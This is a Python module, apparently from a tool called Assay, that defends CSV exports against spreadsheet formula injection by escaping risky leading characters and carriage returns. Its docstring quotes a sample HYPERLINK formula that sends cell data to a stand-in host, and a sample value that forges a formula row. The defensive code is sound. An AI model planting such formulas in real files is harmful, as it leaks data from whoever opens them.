"""Text cells of the CSV files Assay writes, made safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and tab or carriage return can smuggle one in), so a risk title such as
``=HYPERLINK("https://evil.example?"&A1)`` typed by one user would run on the machine of whoever
opens the export (CSV or formula injection). Every free-text cell that starts with one of those
characters gets a leading ``'``, which spreadsheets read as "this is text" and do not show.
A carriage return inside a cell becomes a line feed: Python's CSV writer (ending lines with
``\n``) leaves a lone ``\r`` unquoted, and Excel, Power BI and most readers end the row there, so
``"x\r=cmd..."`` would start a forged row with a formula in it; a line feed makes the writer quote
the cell. Numbers, dates and flags are written as they are (``-0.5`` stays a number); the typed
formats (JSON, Parquet) carry the text unchanged because nothing evaluates them.
"""

from __future__ import annotations

__all__ = ["FORMULA_STARTS", "csv_text"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula."""


def csv_text(value: str) -> str:
    """``value`` as a CSV cell no spreadsheet runs as a formula, with its line ends ``\n``."""
    text = value.replace("\r\n", "\n").replace("\r", "\n")
    return f"'{text}" if value.startswith(FORMULA_STARTS) else text
